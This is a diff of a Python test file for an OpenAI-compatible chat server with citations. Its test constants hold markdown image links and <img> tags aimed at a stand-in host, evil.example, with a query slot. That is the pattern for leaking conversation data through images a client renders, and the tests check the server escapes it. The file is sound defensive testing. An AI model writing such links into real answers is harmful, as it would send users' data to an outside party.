@@ -28,7 +28,7 @@ from tests.support import until
 
 QUESTION = [{"role": "user", "content": "Where was the Aurora built?"}]
 PICTURE = {"type": "image_url", "image_url": {"url": "http://x"}}
-IMAGE = 'See ![x](http://evil.example/?q=all-that-stands-here), <img src="http://evil.example"> and [1].'
+IMAGE = 'See ![x](http://evil.example/?q=all-that-stands-here), <img src="http://evil.example">. ' + ANSWER
 HOSTILE = """# Vault ![h](http://evil.example/h)
 
 The vault opens at noon ![x](http://evil.example/?q=all-that-stands-here) with <img src=http://evil.example> the red key [7].
@@ -37,7 +37,7 @@ TITLE = '{"title": "Ships"}'
 ITS_ID = {"type": "eq", "key": "id"}
 PROFILES = {
     "fleet": ProfileConfig("ships", title="The fleet", footer="auto", filter={**ITS_ID, "value": "ships/fleet.md"}),
-    "web": ProfileConfig("ships", footer="auto", open_webui=True),
+    "web": ProfileConfig("ships", footer="auto", open_webui=True, tasks=True),
     "nothing": ProfileConfig("ships", filter={**ITS_ID, "value": "other.md"}),
     "quotes": ProfileConfig("ships", chat="extractive"),
     "birds": ProfileConfig("birds"),
@@ -128,9 +128,11 @@ def test_models_are_profiles_or_collections_with_their_strategies(
 
 def test_annotations_are_the_citations(live: LiveServer, clients: list[Any]) -> None:
     whole = client_of(live, clients).chat.completions.create(model="fleet", messages=QUESTION, temperature=0.2, seed=3)
+    sent = live.chat.asked[-1].options
+    assert (sent["temperature"], sent["seed"]) == (0.2, 3)
     message, body = whole.choices[0].message, whole.mergewise
     assert message.content.startswith(ANSWER + "\n\nSources: [1] ") and body["answer"] == ANSWER
-    assert whole.choices[0].finish_reason == "stop" and body["ignored"] == ["seed", "temperature"]
+    assert whole.choices[0].finish_reason == "stop" and body["ignored"] == []
     assert {citation["mark"] for citation in body["citations"]} == {1}
     (annotation,) = message.annotations
     place = annotation.url_citation
@@ -198,7 +200,8 @@ def test_an_image_of_the_model_does_not_load(client: Any, streamed: bool) -> Non
     else:
         message = client.chat.completions.create(**asked).choices[0].message
     assert message.content.startswith(
-        'See !\\[x](http://evil.example/?q=all-that-stands-here), &lt;img src="http://evil.example"> and [1].'
+        'See !\\[x](http://evil.example/?q=all-that-stands-here), &lt;img src="http://evil.example">. '
+        f"{ANSWER}\n\nNot supported by the sources: “See "
     )
     place = message.annotations[0].url_citation
     assert message.content[place.start_index : place.end_index] == "[1]"
@@ -228,7 +231,7 @@ def test_earlier_messages_are_the_history(live: LiveServer, clients: list[Any]) 
     ]
     body = client_of(live, clients).chat.completions.create(model="quotes", messages=messages).mergewise
     assert body["mode"] == "extractive" and body["question"] == messages[-1]["content"]
-    assert "Aurora" in body["context"]["question"] and body["ignored"] == ["messages of the role system"]
+    assert "Aurora" in body["context"]["question"] and body["ignored"] == ["instructions"]
 
 
 def test_options_in_the_field_mergewise_have_priority(client: Any) -> None:
@@ -269,10 +272,24 @@ def test_optional_tools_are_ignored(live: LiveServer, clients: list[Any]) -> Non
     assert whole.choices[0].message.tool_calls is None and whole.mergewise["ignored"] == ["tools"]
 
 
-def test_tasks_of_programs_are_answered_by_the_model_or_by_rules(client: Any) -> None:
+def test_tasks_of_programs_are_answered_by_the_model_of_a_profile_with_tasks_or_by_rules(
+    live: LiveServer, clients: list[Any]
+) -> None:
+    client = client_of(live, clients)
     task = '### Task:\nA title as {"title": ""}\n<chat_history>\nUSER: Where was it built?\nASSISTANT: Lyme.\n</chat_history>'
     asked = [{"role": "user", "content": task}]
-    assert client.chat.completions.create(model="fleet", messages=asked).choices[0].message.content == TITLE
+    assert client.chat.completions.create(model="web", messages=asked).choices[0].message.content == TITLE
+    sent = live.chat.asked[-1]
+    assert [message.text for message in sent.messages] == [task] and sent.max_tokens == 300
+    before = len(live.chat.asked)
+    # without the setting, and for a long task, no model is called
+    long = [{"role": "user", "content": task + "x" * 40_000}]
+    for model, messages in (("fleet", asked), ("web", long)):
+        answer = client.chat.completions.create(model=model, messages=messages).choices[0].message.content
+        assert json.loads(answer) == {"title": "Where was it built?"}
+    earlier = [{"role": "user", "content": "Write a poem."}, {"role": "assistant", "content": "No."}, *asked]
+    client.chat.completions.create(model="fleet", messages=earlier)
+    assert len(live.chat.asked) == before
     quoted = client.chat.completions.create(model="quotes", messages=asked).choices[0].message
     assert json.loads(quoted.content) == {"title": "Where was it built?"} and not quoted.annotations
     with client.chat.completions.stream(model="quotes", messages=asked) as stream:
